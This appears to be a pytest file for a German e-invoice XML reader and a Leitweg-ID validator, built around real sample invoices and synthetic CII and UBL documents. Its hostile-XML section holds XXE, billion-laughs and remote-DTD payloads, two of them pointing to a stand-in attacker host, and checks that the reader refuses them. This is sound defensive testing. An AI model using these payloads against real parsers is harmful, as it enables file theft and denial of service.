"""The e-invoice XML reader against the real samples of ``../shared/data/einvoices`` and hostile XML,
and the Leitweg-ID validator.

Every ``*.truth.json`` there holds the EN 16931 business terms read from the sample's XML; the reader must
match each of them after normalisation (``*_norm`` totals, ISO dates, IBAN and VAT id without spaces; a
``null`` or empty truth value means the field is absent). Every XML or PDF there must be parsed or refused
with a mailroom error, never crash.
"""

from __future__ import annotations

import json
from collections import Counter
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from stdnum.de import leitweg as stdnum_leitweg

from extraction.einvoice_xml import EInvoice, read_einvoice, to_result_fields
from extraction.leitweg import leitweg_check_digits, validate_leitweg_id
from mailroom.errors import HostileXml, InvalidXml, MailroomError
from mailroom.result import InvoiceField

DATA = Path(__file__).resolve().parents[2] / "shared" / "data" / "einvoices"

TRUTH_FILES = sorted(DATA.rglob("*.truth.json")) if DATA.is_dir() else []
SAMPLE_FILES = sorted([*DATA.rglob("*.xml"), *DATA.rglob("*.pdf")]) if DATA.is_dir() else []

#: truth key -> EInvoice attribute.
TRUTH_FIELDS = {
    "BT-1_invoice_number": "invoice_number",
    "BT-2_issue_date": "issue_date",
    "BT-3_type_code": "type_code",
    "BT-5_currency": "currency",
    "BT-9_due_date": "due_date",
    "BT-10_buyer_reference": "buyer_reference",
    "BT-13_order_reference": "order_reference",
    "BT-27_seller_name": "seller_name",
    "BT-31_seller_vat_id": "seller_vat_id",
    "BT-32_seller_tax_number": "seller_tax_number",
    "BT-44_buyer_name": "buyer_name",
    "BT-84_payee_iban": "iban",
    "BT-106_line_net_total_norm": "line_net_total",
    "BT-109_total_without_vat_norm": "total_net",
    "BT-110_total_vat_norm": "total_vat",
    "BT-112_total_with_vat_norm": "total_gross",
    "BT-115_amount_due_norm": "amount_due",
}
COMPACTED = {"BT-31_seller_vat_id", "BT-84_payee_iban"}
SYNTAX_OF_TRUTH = {"CII": "CII", "UBL": "UBL", "ZUGFeRD1-CII": "ZUGFeRD1"}

#: Where the truth file misses a term the XML does carry. ZUGFeRD 1.0 writes the buyer's order number
#: (BT-13) as ``BuyerOrderReferencedDocument/ID`` (CII 2.x: ``.../IssuerAssignedID``); the truth generator
#: read only the 2.x path. The reader takes it, and these values were checked by hand in the XML.
TRUTH_GAPS: dict[str, dict[str, str]] = {
    f"ferd-corpus/ZUGFeRDv1/correct/Intarsys/ZUGFeRD_1p0_{case}.pdf": {"BT-13_order_reference": "B123456789"}
    for case in ("COMFORT_Rechnungskorrektur", "EXTENDED_Rechnungskorrektur", "EXTENDED_Warenrechnung")
}


def sample_xml(path: Path) -> bytes:
    """The XML of a sample: the file itself, or the XML attachment of a PDF."""
    if path.suffix.lower() != ".pdf":
        return path.read_bytes()
    with pikepdf.open(path) as pdf:
        for name, attachment in pdf.attachments.items():
            if name.lower().endswith(".xml"):
                return bytes(attachment.get_file().read_bytes())
    raise AssertionError(f"{path} has no XML attachment")


def expected_value(key: str, truth: dict[str, Any]) -> str | None:
    value = truth.get(key)
    if not isinstance(value, str) or not value.strip():
        return None
    if key in COMPACTED:
        return "".join(value.split()).upper()
    return value.strip()


def _id(path: Path) -> str:
    return str(path.relative_to(DATA))


# --- the real samples ------------------------------------------------------------------------------------


@pytest.mark.parametrize("truth_path", TRUTH_FILES, ids=_id)
def test_matches_truth(truth_path: Path) -> None:
    truth = json.loads(truth_path.read_text(encoding="utf-8"))
    sample = truth_path.with_name(truth_path.name.removesuffix(".truth.json"))
    if "error" in truth:
        with pytest.raises(InvalidXml):
            read_einvoice(sample_xml(sample))
        return
    invoice = read_einvoice(sample_xml(sample))
    gaps = TRUTH_GAPS.get(_id(sample), {})
    expected = {key: gaps.get(key, expected_value(key, truth)) for key in TRUTH_FIELDS}
    actual = {key: getattr(invoice, attribute) for key, attribute in TRUTH_FIELDS.items()}
    assert actual == expected
    assert len(invoice.line_items) == truth["n_line_items"]
    assert invoice.syntax == SYNTAX_OF_TRUTH[truth["syntax"]]
    assert invoice.root == truth["root"]


@pytest.mark.parametrize("path", SAMPLE_FILES, ids=_id)
def test_every_sample_parses_or_is_refused_clearly(path: Path) -> None:
    try:
        invoice = read_einvoice(sample_xml(path))
    except MailroomError as exc:
        assert isinstance(exc, InvalidXml)
        assert exc.message
        return
    result = to_result_fields(invoice)
    for name, field in result.items():
        if name != "line_items":
            InvoiceField.model_validate(field)


def test_corpus_totals() -> None:
    """The whole set: files parsed and refused (with reason), truth fields compared and matched."""
    outcome: Counter[str] = Counter()
    compared = matched = 0
    for truth_path in TRUTH_FILES:
        truth = json.loads(truth_path.read_text(encoding="utf-8"))
        sample = truth_path.with_name(truth_path.name.removesuffix(".truth.json"))
        try:
            invoice = read_einvoice(sample_xml(sample))
        except InvalidXml as exc:
            outcome[f"refused:{exc.code}"] += 1
            continue
        outcome["parsed"] += 1
        for key, attribute in TRUTH_FIELDS.items():
            compared += 1
            matched += getattr(invoice, attribute) == expected_value(key, truth)
        compared += 1
        matched += len(invoice.line_items) == truth["n_line_items"]
    print(f"files={len(SAMPLE_FILES)} {dict(outcome)} truth fields matched {matched}/{compared}")
    assert len(SAMPLE_FILES) == len(TRUTH_FILES) == 218
    assert outcome == {"parsed": 217, "refused:invalid_xml": 1}
    # the only differences are the documented truth gaps
    assert compared - matched == sum(len(gap) for gap in TRUTH_GAPS.values())


def test_result_fields_of_a_real_xrechnung() -> None:
    path = DATA / "xrechnung-testsuite/test/business-cases/standard/01.01a-INVOICE_ubl.xml"
    result = to_result_fields(read_einvoice(path.read_bytes()))
    assert result["invoice_number"] == {"value": "123456XX", "confidence": 1.0, "source": "e-invoice"}
    assert result["total_gross"]["value"] == "336.90"
    assert result["seller_vat_id"]["value"] == "DE123456789"
    assert result["buyer_reference"]["value"] == "04011000-12345-03"
    assert "due_date" not in result  # the XML has none: absent, not null, not guessed
    assert [item["description"] for item in result["line_items"]] == [
        "Zeitschrift [...]",
        "Porto + Versandkosten",
    ]


# --- synthetic documents: normalisation ------------------------------------------------------------------

CII_NS = (
    'xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100" '
    'xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100" '
    'xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100"'
)


def cii(settlement: str = "", agreement: str = "", lines: str = "") -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice {CII_NS}>
  <rsm:ExchangedDocument>
    <ram:ID> RE-1 </ram:ID><ram:TypeCode>380</ram:TypeCode>
    <ram:IssueDateTime><udt:DateTimeString format="102">20261112</udt:DateTimeString></ram:IssueDateTime>
  </rsm:ExchangedDocument>
  <rsm:SupplyChainTradeTransaction>
    {lines}
    <ram:ApplicableHeaderTradeAgreement>
      <ram:SellerTradeParty><ram:Name>Lieferant GmbH</ram:Name>
        <ram:SpecifiedTaxRegistration><ram:ID schemeID="FC">201/113/40209</ram:ID>
        </ram:SpecifiedTaxRegistration>
        <ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">de 123 456 789</ram:ID>
        </ram:SpecifiedTaxRegistration>
      </ram:SellerTradeParty>
      {agreement}
    </ram:ApplicableHeaderTradeAgreement>
    <ram:ApplicableHeaderTradeDelivery/>
    <ram:ApplicableHeaderTradeSettlement>
      <ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
      {settlement}
    </ram:ApplicableHeaderTradeSettlement>
  </rsm:SupplyChainTradeTransaction>
</rsm:CrossIndustryInvoice>""".encode()


def test_cii_normalisation() -> None:
    invoice = read_einvoice(
        cii(
            settlement="""
      <ram:SpecifiedTradeSettlementPaymentMeans><ram:TypeCode>49</ram:TypeCode>
        <ram:PayerPartyDebtorFinancialAccount><ram:IBANID>DE02120300000000202051</ram:IBANID>
        </ram:PayerPartyDebtorFinancialAccount></ram:SpecifiedTradeSettlementPaymentMeans>
      <ram:SpecifiedTradeSettlementPaymentMeans><ram:TypeCode>58</ram:TypeCode>
        <ram:PayeePartyCreditorFinancialAccount><ram:IBANID>de88 2008 0000 0970 3757 00</ram:IBANID>
        </ram:PayeePartyCreditorFinancialAccount>
        <ram:PayeeSpecifiedCreditorFinancialInstitution><ram:BICID>COBADEFFXXX</ram:BICID>
        </ram:PayeeSpecifiedCreditorFinancialInstitution></ram:SpecifiedTradeSettlementPaymentMeans>
      <ram:BillingSpecifiedPeriod>
        <ram:StartDateTime><udt:DateTimeString format="102">20261001</udt:DateTimeString></ram:StartDateTime>
        <ram:EndDateTime><udt:DateTimeString format="610">202610</udt:DateTimeString></ram:EndDateTime>
      </ram:BillingSpecifiedPeriod>
      <ram:SpecifiedTradePaymentTerms><ram:Description>Zahlbar binnen 14 Tagen</ram:Description>
        <ram:DueDateDateTime><udt:DateTimeString format="102">20261131</udt:DateTimeString>
        </ram:DueDateDateTime>
      </ram:SpecifiedTradePaymentTerms>
      <ram:SpecifiedTradeSettlementHeaderMonetarySummation>
        <ram:LineTotalAmount>1.005</ram:LineTotalAmount>
        <ram:TaxBasisTotalAmount>-7.665</ram:TaxBasisTotalAmount>
        <ram:TaxTotalAmount currencyID="USD">99.00</ram:TaxTotalAmount>
        <ram:TaxTotalAmount currencyID="EUR">56.87</ram:TaxTotalAmount>
        <ram:GrandTotalAmount>336.9</ram:GrandTotalAmount>
        <ram:DuePayableAmount>not a number</ram:DuePayableAmount>
      </ram:SpecifiedTradeSettlementHeaderMonetarySummation>""",
            lines="""
    <ram:IncludedSupplyChainTradeLineItem>
      <ram:AssociatedDocumentLineDocument><ram:LineID>1</ram:LineID></ram:AssociatedDocumentLineDocument>
      <ram:SpecifiedTradeProduct><ram:Name>Papier A4</ram:Name></ram:SpecifiedTradeProduct>
      <ram:SpecifiedLineTradeAgreement><ram:NetPriceProductTradePrice>
        <ram:ChargeAmount>0.1230</ram:ChargeAmount></ram:NetPriceProductTradePrice></ram:SpecifiedLineTradeAgreement>
      <ram:SpecifiedLineTradeDelivery><ram:BilledQuantity unitCode="C62">20.000</ram:BilledQuantity>
      </ram:SpecifiedLineTradeDelivery>
      <ram:SpecifiedLineTradeSettlement><ram:SpecifiedTradeSettlementLineMonetarySummation>
        <ram:LineTotalAmount>2.46</ram:LineTotalAmount></ram:SpecifiedTradeSettlementLineMonetarySummation>
      </ram:SpecifiedLineTradeSettlement>
    </ram:IncludedSupplyChainTradeLineItem>""",
        )
    )
    assert invoice.syntax == "CII"
    assert invoice.invoice_number == "RE-1"
    assert invoice.issue_date == "2026-11-12"
    assert invoice.due_date is None  # 31 November is no day: not guessed
    assert invoice.service_period_start == "2026-10-01"
    assert invoice.service_period_end is None  # format 610 names a month, not a day
    assert invoice.iban == "DE88200800000970375700"  # the payee's, never the direct-debit payer's
    assert invoice.bic == "COBADEFFXXX"
    assert invoice.seller_vat_id == "DE123456789"
    assert invoice.seller_tax_number == "201/113/40209"
    assert invoice.payment_terms == "Zahlbar binnen 14 Tagen"
    assert invoice.line_net_total == "1.01"  # half up
    assert invoice.total_net == "-7.67"
    assert invoice.total_vat == "56.87"  # in the invoice currency (BT-110), not the accounting one (BT-111)
    assert invoice.total_gross == "336.90"
    assert invoice.amount_due is None
    (line,) = invoice.line_items
    assert (line.id, line.description, line.quantity, line.unit_price, line.amount) == (
        "1",
        "Papier A4",
        "20",
        "0.123",
        "2.46",
    )


def test_absent_terms_are_absent_in_the_result() -> None:
    result = to_result_fields(read_einvoice(cii()))
    assert set(result) == {
        "invoice_number",
        "issue_date",
        "type_code",
        "currency",
        "seller_name",
        "seller_vat_id",
        "seller_tax_number",
        "line_items",
    }
    assert result["line_items"] == []
    assert all(
        field["source"] == "e-invoice" and field["confidence"] == 1.0
        for name, field in result.items()
        if name != "line_items"
    )


def test_ubl_credit_note() -> None:
    xml = b"""<?xml version="1.0" encoding="UTF-8"?>
<CreditNote xmlns="urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2"
  xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>GS-7</cbc:ID><cbc:IssueDate>2026-11-12</cbc:IssueDate>
  <cbc:CreditNoteTypeCode>381</cbc:CreditNoteTypeCode><cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>
  <cac:AccountingSupplierParty><cac:Party>
    <cac:PartyTaxScheme><cbc:CompanyID>DE123456789</cbc:CompanyID><cac:TaxScheme><cbc:ID>VAT</cbc:ID>
    </cac:TaxScheme></cac:PartyTaxScheme>
    <cac:PartyTaxScheme><cbc:CompanyID>123/456/789</cbc:CompanyID><cac:TaxScheme><cbc:ID>FC</cbc:ID>
    </cac:TaxScheme></cac:PartyTaxScheme>
    <cac:PartyLegalEntity><cbc:RegistrationName>Lieferant GmbH</cbc:RegistrationName></cac:PartyLegalEntity>
  </cac:Party></cac:AccountingSupplierParty>
  <cac:Delivery><cbc:ActualDeliveryDate>2026-11-01</cbc:ActualDeliveryDate></cac:Delivery>
  <cac:PaymentMeans><cbc:PaymentMeansCode>58</cbc:PaymentMeansCode>
    <cbc:PaymentDueDate>2026-12-01</cbc:PaymentDueDate></cac:PaymentMeans>
  <cac:LegalMonetaryTotal><cbc:TaxInclusiveAmount currencyID="EUR">100</cbc:TaxInclusiveAmount>
  </cac:LegalMonetaryTotal>
  <cac:CreditNoteLine><cbc:ID>1</cbc:ID><cbc:CreditedQuantity unitCode="C62">2</cbc:CreditedQuantity>
    <cbc:LineExtensionAmount currencyID="EUR">84.03</cbc:LineExtensionAmount>
    <cac:Item><cbc:Description>Gutschrift Porto</cbc:Description></cac:Item>
    <cac:Price><cbc:PriceAmount currencyID="EUR">42.015</cbc:PriceAmount></cac:Price></cac:CreditNoteLine>
</CreditNote>"""
    invoice = read_einvoice(xml)
    assert (invoice.syntax, invoice.root, invoice.type_code) == ("UBL", "CreditNote", "381")
    assert invoice.due_date == "2026-12-01"
    assert invoice.service_date == "2026-11-01"
    assert (invoice.seller_vat_id, invoice.seller_tax_number) == ("DE123456789", "123/456/789")
    assert invoice.total_gross == "100.00"
    assert invoice.iban is None
    (line,) = invoice.line_items
    assert (line.description, line.quantity, line.unit_price, line.amount) == (
        "Gutschrift Porto",
        "2",
        "42.015",
        "84.03",
    )


# --- hostile and broken XML ------------------------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">
<rsm:ExchangedDocument><ram:ID xmlns:ram="urn:x">&xxe;</ram:ID></rsm:ExchangedDocument>
</rsm:CrossIndustryInvoice>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&lol9;</ID></Invoice>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.invalid/invoice.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>1</ID></Invoice>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>1</ID></Invoice>"""


@pytest.mark.parametrize(
    "xml",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe-file", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_hostile_xml_is_refused(xml: bytes) -> None:
    with pytest.raises(HostileXml) as caught:
        read_einvoice(xml)
    assert caught.value.code == "hostile_xml"
    assert "root:" not in str(caught.value)  # nothing of /etc/passwd is ever read


def test_oversize_xml_is_refused_before_parsing() -> None:
    data = cii()
    with pytest.raises(HostileXml, match="limit"):
        read_einvoice(data, max_bytes=len(data) - 1)
    assert read_einvoice(data, max_bytes=len(data)).invoice_number == "RE-1"


@pytest.mark.parametrize(
    "xml",
    [
        b"",
        b"not xml at all",
        b"<Invoice><ID>1</Invoice>",
        b'<?xml version="1.0" encoding="bogus"?><a/>',
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3",
    ],
    ids=["empty", "text", "unclosed", "unknown-encoding", "pdf-bytes"],
)
def test_malformed_xml_is_invalid(xml: bytes) -> None:
    with pytest.raises(InvalidXml) as caught:
        read_einvoice(xml)
    assert not isinstance(caught.value, HostileXml)


@pytest.mark.parametrize(
    ("xml", "root"),
    [
        (b"<Invoice><ID>1</ID></Invoice>", "Invoice"),  # UBL name without the UBL namespace
        (
            b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>',
            "{urn:oasis:names:specification:ubl:schema:xsd:Order-2}Order",
        ),
        (b"<html><body>Rechnung</body></html>", "html"),
    ],
)
def test_unknown_root_is_invalid_and_named(xml: bytes, root: str) -> None:
    with pytest.raises(InvalidXml) as caught:
        read_einvoice(xml)
    assert root in caught.value.message
    assert caught.value.details["root"] == root


def test_einvoice_is_immutable() -> None:
    invoice = read_einvoice(cii())
    assert isinstance(invoice, EInvoice)
    with pytest.raises(AttributeError):
        invoice.invoice_number = "other"  # type: ignore[misc]


# --- Leitweg-ID ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "leitweg_id",
    [
        "04011000-1234512345-06",
        "04011000-12345-03",
        "991-01484-64",
        "991-33333TEST-33",
        "991-33333test-33",
        "99-92",
        " 04011000-12345-03 ",
    ],
)
def test_valid_leitweg_ids(leitweg_id: str) -> None:
    check = validate_leitweg_id(leitweg_id)
    assert check.ok, check.reason
    assert check.reason is None


@pytest.mark.parametrize(
    ("leitweg_id", "reason"),
    [
        ("04011000-12345-34", "wrong check digits 34, expected 03"),
        ("99000000-01944-98", "wrong check digits 98, expected 56"),
        ("90000000-03083-72", "unknown Land code 90"),  # check digits right, but no Land 90
        ("1-03730-19", "not of the form"),
        ("04011000-12345", "not of the form"),
        ("0401100012345-03-03-03", "not of the form"),
        ("04011000-123_45-03", "not of the form"),
        ("04011000-" + "A" * 31 + "-03", "not of the form"),
        ("0401100012345-" + "A" * 30 + "-03", "longer than 46"),
        ("Leitweg-ID", "not of the form"),
        ("", "empty"),
    ],
)
def test_invalid_leitweg_ids(leitweg_id: str, reason: str) -> None:
    check = validate_leitweg_id(leitweg_id)
    assert not check.ok
    assert check.reason is not None and reason in check.reason


def test_leitweg_check_digits() -> None:
    # the worked example of the KoSIT format specification
    assert leitweg_check_digits("04011000-1234512345") == "06"
    assert leitweg_check_digits("991-33333TEST") == "33"
    assert leitweg_check_digits("99") == "92"
    with pytest.raises(ValueError, match="Leitweg"):
        leitweg_check_digits("04011000-12345-03-")


def test_leitweg_ids_of_the_samples_agree_with_python_stdnum() -> None:
    """Every buyer reference in the samples, checked by us and by python-stdnum's independent validator."""
    references = {
        json.loads(path.read_text(encoding="utf-8")).get("BT-10_buyer_reference") for path in TRUTH_FILES
    } - {None}
    assert len(references) > 20
    for reference in references:
        assert validate_leitweg_id(reference).ok == stdnum_leitweg.is_valid(reference), reference


def test_leitweg_ids_of_the_xrechnung_testsuite() -> None:
    """All 86 XRechnung test messages carry a buyer reference; which are valid Leitweg-IDs."""
    outcome: Counter[str] = Counter()
    suite = DATA / "xrechnung-testsuite"
    for path in sorted(suite.rglob("*.truth.json")):
        check = validate_leitweg_id(json.loads(path.read_text(encoding="utf-8"))["BT-10_buyer_reference"])
        outcome["valid" if check.ok else (check.reason or "").split(",")[0]] += 1
    assert outcome == {
        "valid": 44,
        "unknown Land code 90 (01-16": 36,
        "wrong check digits 98": 4,
        "wrong check digits 34": 1,
        "not of the form Grobadressierung (2-12 digits)": 1,
    }
